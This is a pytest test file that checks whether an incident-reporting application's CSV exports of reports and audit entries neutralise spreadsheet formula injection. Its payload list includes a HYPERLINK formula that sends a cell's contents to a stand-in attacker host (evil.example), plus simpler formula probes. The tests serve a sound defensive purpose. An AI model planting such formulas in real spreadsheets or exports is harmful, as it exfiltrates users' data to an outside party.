"""Formula injection: a text that a spreadsheet would run is written as text in every CSV export."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import World
from trygg.storage import audit
from trygg.storage.database import Database

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+1+1", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_reports_csv_neutralises_formulas(api, world: World, payload: str) -> None:  # type: ignore[no-untyped-def]
    c = api("samordnare")
    r = c.post("/api/v1/reports", json={"category": "vandalism", "description": payload, "lon": 12.285, "lat": 58.285})
    assert r.status_code == 201, r.text
    text = c.get("/api/v1/reports.csv").text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    descriptions = {row["description"] for row in rows}
    assert "'" + payload in descriptions and payload not in descriptions
    assert not any(v.startswith(("=", "+", "@")) for row in rows for v in row.values())


def test_the_audit_csv_neutralises_formulas(login, database: Database, world: World) -> None:  # type: ignore[no-untyped-def]
    with database.session() as s:
        audit.record(s, None, "update", "report", "=1+1", {"note": "x"})
    text = login("admin").get("/admin/audit.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert "'=1+1" in {row["object_id"] for row in rows}
